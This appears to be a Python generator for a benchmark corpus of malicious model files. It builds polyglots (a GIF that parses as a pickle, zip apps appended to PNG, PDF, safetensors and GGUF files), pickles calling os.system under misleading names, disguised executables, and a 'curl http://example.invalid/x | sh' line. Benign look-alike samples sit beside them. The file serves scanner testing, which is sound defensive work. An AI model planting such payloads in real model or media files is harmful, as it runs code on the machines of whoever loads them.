"""Files with two readings, and files whose name says another format than their bytes."""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator

from bench.corpus.families.torch import RUN as TORCH_RUN
from bench.corpus.families.torch import state_dict, zipped
from bench.corpus.unit import COMMAND, Family, Unit
from bench.corpus.writers import binaries, gguf, hdf5, media, npy, safetensors, tars, zips
from bench.corpus.writers import opcodes as op
from bench.corpus.writers.gguf import Gguf

POLY = Family("polyglots", "whichever loader is tried")
RUN = op.call(op.stacked("os", "system"), op.text(COMMAND))
EVIL = op.pickle4(RUN)
LINES = b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."


def gif_pickle() -> bytes:
    """A GIF that is a pickle: 'G' reads as BINFLOAT, the comment block holds the opcodes."""
    head = b"GIF89a" + struct.pack("<H", 1) + b"\x01"  # G takes eight bytes up to here
    head += b"0" + b"N" + b"0" + b"C"  # height, flags, background, aspect: POP NONE POP, BINBYTES
    lead = b"!\xfe"  # BINBYTES' length is '!' = 33: it swallows the block's start
    opcodes = b"0" + LINES
    note = bytes(31) + opcodes
    return head + lead + bytes([len(note)]) + note + b"\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _two_readings(rng)
    yield from _wrong_names(rng)
    yield from _honest(rng)


def _two_readings(rng: random.Random) -> Iterator[Unit]:
    def bad(variant: str, name: str, body: bytes, loader: str = "") -> Unit:
        return POLY.bad(
            "two-readings",
            variant,
            {name: body},
            payload="the other reading runs code",
            loader=loader,
        )

    torch = zipped(rng, state_dict(op.long_text("x") + TORCH_RUN))
    app = zips.pack({"__main__.py": f"import os\nos.system('{COMMAND}')\n".encode()})
    weights = safetensors.weights(rng, {"w": (8, 8)})
    yield bad("gif-pickle", "logo.gif", gif_pickle(), "pickle.load")
    yield bad("png-zip", "preview.png", media.png(rng) + app, "python FILE")
    yield bad("png-torch", "preview.png", media.png(rng) + torch, "zipfile readers")
    yield bad("pdf-zip", "paper.pdf", media.pdf("Model card", app), "python FILE")
    yield bad("safetensors-zip", "model.safetensors", weights + app, "python FILE")
    yield bad("safetensors-torch", "model.safetensors", weights + torch, "zipfile readers")
    yield bad(
        "gguf-zip",
        "model.gguf",
        Gguf({"general.architecture": "llama"}, [gguf.Tensor("w", (8,), bytes(32))]).encode() + app,
        "python FILE",
    )
    yield bad("pickle-zip", "model.pt", EVIL + torch, "pickle.load")
    yield bad("pickle-tar", "model.tar", _tar_pickle(), "pickle.load")
    yield bad("jpeg-pickle-tail", "cat.jpg", media.jpeg(rng) + EVIL, "a loader told to seek")
    yield bad("wav-elf", "sample.wav", media.wav(rng) + binaries.elf(b"x"), "a dropper beside it")
    yield bad(
        "shell-zip",
        "model.bin",
        b"#!/bin/sh\ntouch corpus-marker\nexit\n" + zips.pack({"a.txt": b"a"}),
        "sh FILE",
    )
    yield bad(
        "hdf5-user-block-pickle",
        "model.h5",
        hdf5.encode(hdf5.Group({"w": hdf5.Dataset((4,), bytes(16))}), EVIL.ljust(512, b"\0")),
        "pickle.load",
    )
    yield bad("npy-zip", "x.npy", npy.array("<f4", (4,), bytes(16)) + app, "python FILE")
    yield bad("html-pickle", "index.html", LINES + b"<html></html>", "pickle.load")
    yield bad("json-pickle", "config.json", b"L1L\n0" + LINES + b'{"a": 1}', "pickle.load")
    yield bad("text-pickle", "notes.txt", LINES, "pickle.load")


def _tar_pickle() -> bytes:
    """A tar whose first member's name begins with opcodes."""
    name = LINES.decode() + "x"
    return tars.archive([tars.Entry(name, b"data")])


def _wrong_names(rng: random.Random) -> Iterator[Unit]:
    def bad(variant: str, name: str, body: bytes) -> Unit:
        return POLY.bad(
            "wrong-name", variant, {name: body}, payload="runs when a loader goes by content"
        )

    torch = zipped(rng, TORCH_RUN)
    for name in (
        "weights.bin",
        "model.onnx",
        "config.json",
        "README.md",
        "image.png",
        "model.h5",
        "data.csv",
        "model",
        "model.tflite",
        "vocab.txt",
        "tokenizer.model",
        "model.pb",
        "model.keras",
        "data.npz",
        "params.msgpack",
        "embeddings.parquet",
    ):
        yield bad("pickle-" + name.replace(".", "-").lower(), name, EVIL)
    for name in ("model.gguf", "photo.jpg", "model.zip", "weights.dat"):
        yield bad("torch-" + name.replace(".", "-"), name, torch)
    yield bad("elf-onnx", "model.onnx", binaries.elf(b"main", shared=False))
    yield bad("pe-safetensors", "model.safetensors", binaries.pe(b"x", library=False))
    yield bad("script-bin", "model.bin", b"#!/bin/bash\ncurl http://example.invalid/x | sh\n")
    yield bad("gzip-pickle-bin", "model.bin", tars.gz(EVIL))
    yield bad("npy-named-json", "labels.json", npy.array("|O", (1,), EVIL))
    yield bad(
        "zip-named-txt", "notes.txt", zips.pack({"__main__.py": b"import os\nos.system('true')\n"})
    )


def _honest(rng: random.Random) -> Iterator[Unit]:
    def good(variant: str, name: str, body: bytes | str) -> Unit:
        return POLY.good("companion", variant, {name: body})

    yield good("png", "logo.png", media.png(rng, 32, 32))
    yield good("gif", "demo.gif", media.gif(b"made with a tool"))
    yield good("jpeg", "cat.jpg", media.jpeg(rng))
    yield good("pdf", "paper.pdf", media.pdf("Attention"))
    yield good("wav", "sample.wav", media.wav(rng))
    yield good("csv", "train.csv", media.csv(rng))
    yield good("jsonl", "data.jsonl", media.jsonl(rng))
    yield good("text", "notes.txt", "cosine similarity\nsystem prompt\n(see S'above')\n")
    yield good("text-c", "corpus.txt", "c is a language\nand so is R.\n")
    yield good("markdown", "README.md", "# cos\nsystem\n\n`pickle.loads(b'...')` is unsafe.\n")
    yield good("html", "index.html", "<!doctype html><html><body><h1>Model</h1></body></html>")
    yield good("bin-weights", "weights.bin", safetensors.floats(rng, 400))
    yield good("bin-noise", "data.bin", rng.randbytes(3000))
    yield good(
        "log", "train.log", "".join(f"step {i} loss {rng.random():.4f}\n" for i in range(80))
    )
    yield good(
        "vocab", "vocab.txt", "[PAD]\n[UNK]\n" + "\n".join(f"##tok{i}" for i in range(200)) + "\n"
    )
    yield good("labels", "labels.txt", "person\nbicycle\ncar\n")
    yield good("empty", "empty.txt", b"")
    yield good("utf16", "notes.txt", "notes on the run".encode("utf-16"))
    yield good("latin", "notes.txt", "café crème".encode("latin-1"))
    yield good(
        "xml",
        "labels.xml",
        "<?xml version='1.0'?><annotation><object><name>cat</name></object></annotation>",
    )
    yield good("toml", "pyproject.toml", '[project]\nname = "m"\nversion = "1"\n')
    yield good("tsv", "pairs.tsv", "a\tb\n1\t2\n")
    yield good("words-npy", "words.txt", "numpy\nos\nsystem\neval\nexec\n")
    yield good(
        "glove",
        "glove.6B.50d.txt",
        "".join(
            f"word{i} " + " ".join(f"{rng.gauss(0, 1):.4f}" for _ in range(10)) + "\n"
            for i in range(40)
        ),
    )
    yield good(
        "fasttext", "model.vec", "3 4\n" + "".join(f"w{i} 0.1 0.2 0.3 0.4\n" for i in range(3))
    )
